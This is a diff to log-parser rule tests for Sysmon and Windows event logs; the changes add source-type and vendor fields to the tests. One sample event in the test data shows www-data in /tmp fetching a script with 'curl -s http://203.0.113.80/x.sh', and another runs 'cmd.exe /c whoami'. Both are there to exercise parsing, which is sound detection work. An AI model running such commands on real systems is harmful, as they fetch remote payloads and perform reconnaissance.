@@ -80,6 +80,7 @@ rule "sysmon-linux-event" {
 
   test {
     log    = "Jun  4 09:00:00 lnx-web1 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{00000000-0000-0000-0000-000000000001}\"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2024-06-04T09:00:00.000000000Z\"/><EventRecordID>501</EventRecordID><Correlation/><Execution ProcessID=\"800\" ThreadID=\"800\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>lnx-web1</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-06-04 09:00:00.000</Data><Data Name=\"ProcessGuid\">{00000000-0000-0000-0000-0000000000aa}</Data><Data Name=\"ProcessId\">4321</Data><Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"FileVersion\">-</Data><Data Name=\"Description\">-</Data><Data Name=\"Product\">-</Data><Data Name=\"Company\">-</Data><Data Name=\"OriginalFileName\">-</Data><Data Name=\"CommandLine\">curl -s http://203.0.113.80/x.sh</Data><Data Name=\"CurrentDirectory\">/tmp</Data><Data Name=\"User\">www-data</Data><Data Name=\"LogonGuid\">{00000000-0000-0000-0000-000000000000}</Data><Data Name=\"LogonId\">33</Data><Data Name=\"TerminalSessionId\">4294967295</Data><Data Name=\"IntegrityLevel\">no level</Data><Data Name=\"Hashes\">-</Data><Data Name=\"ParentProcessGuid\">{00000000-0000-0000-0000-0000000000ab}</Data><Data Name=\"ParentProcessId\">4300</Data><Data Name=\"ParentImage\">/bin/sh</Data><Data Name=\"ParentCommandLine\">sh -c curl</Data><Data Name=\"ParentUser\">www-data</Data></EventData></Event>"
+    log_source_type = "syslog"
     expect = {
       "event.code"                   = "1"
       "host.name"                    = "lnx-web1"
@@ -91,6 +92,7 @@ rule "sysmon-linux-event" {
       "process.parent.pid"           = "4300"
       "process.parent.executable"    = "/bin/sh"
       common_event                   = "Process Created"
+      "observer.vendor" = "Microsoft"
     }
   }
   test {
@@ -115,6 +117,7 @@ rule "winevtlog-sysmon-process-create" {
 
   test {
     log    = "2024 Jun 04 09:10:00 WinEvtLog: Microsoft-Windows-Sysmon/Operational: INFORMATION(1): Microsoft-Windows-Sysmon: SYSTEM: NT AUTHORITY: WS-0042: Process Create:  UtcTime: 6/4/2024 9:10 AM  ProcessGuid: {00000000-0000-0000-0000-0000000000c1}  ProcessId: 5120  Image: C:\\Windows\\System32\\cmd.exe  CommandLine: cmd.exe /c whoami  CurrentDirectory: C:\\Users\\dana\\  User: EXAMPLE\\dana  LogonGuid: {00000000-0000-0000-0000-0000000000c2}  LogonId: 0x3E7  TerminalSessionId: 1  IntegrityLevel: High  HashType: SHA1  Hash: 0000000000000000000000000000000000000000  ParentProcessGuid: {00000000-0000-0000-0000-0000000000c3}  ParentProcessId: 4100  ParentImage: C:\\Windows\\explorer.exe  ParentCommandLine: C:\\Windows\\Explorer.EXE"
+    log_source_type = "syslog"
     expect = {
       "event.code"                = "1"
       "winlog.computer_name"      = "WS-0042"
@@ -124,6 +127,7 @@ rule "winevtlog-sysmon-process-create" {
       "user.name"                 = "EXAMPLE\\dana"
       "process.parent.pid"        = "4100"
       "process.parent.executable" = "C:\\Windows\\explorer.exe"
+      "observer.vendor" = "Microsoft"
     }
   }
 }
@@ -156,7 +160,8 @@ rule "winevtlog-event" {
 
   test {
     log    = "2024 Jun 04 09:20:00 WinEvtLog: Application: INFORMATION(1): Backup Job: (no user): no domain: fs01.example.com: nightly backup finished"
-    expect = { "winlog.channel" = "Application", "event.code" = "1", "winlog.provider_name" = "Backup Job", "winlog.computer_name" = "fs01.example.com", reason = "nightly backup finished", common_event = "Windows Event" }
+    log_source_type = "syslog"
+    expect = { "winlog.channel" = "Application", "event.code" = "1", "winlog.provider_name" = "Backup Job", "winlog.computer_name" = "fs01.example.com", reason = "nightly backup finished", common_event = "Windows Event", "observer.vendor" = "Microsoft" }
   }
   test {
     log    = "2024 Jun 04 09:21:00 WinEvtLog: Security: AUDIT_FAILURE(4625): Microsoft-Windows-Security-Auditing: (no user): no domain: DC01: An account failed to log on."
